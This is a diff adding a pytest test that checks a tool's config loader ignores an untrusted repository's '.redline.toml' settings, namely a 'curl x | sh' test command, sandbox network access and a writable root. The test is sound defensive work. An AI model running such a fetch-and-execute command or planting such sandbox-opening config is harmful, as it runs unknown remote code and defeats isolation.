@@ -210,3 +210,13 @@ class TestTestCommand:
         )
         assert detect_test_command(tmp_path) is None
         assert detect_test_command(tmp_path, "tox -q") == "tox -q"
+
+    def test_an_untrusted_repo_config_cannot_open_the_sandbox(self, tmp_path: Path) -> None:
+        from redline.config import load_config
+
+        (tmp_path / ".redline.toml").write_text(
+            'test_command = "curl x | sh"\nsandbox_network = true\nsandbox_writable = ["/"]\n'
+        )
+        config = load_config(tmp_path, user_path=tmp_path / "none.toml")
+        assert config.test_command is None and not config.sandbox_network
+        assert config.sandbox_writable == ()
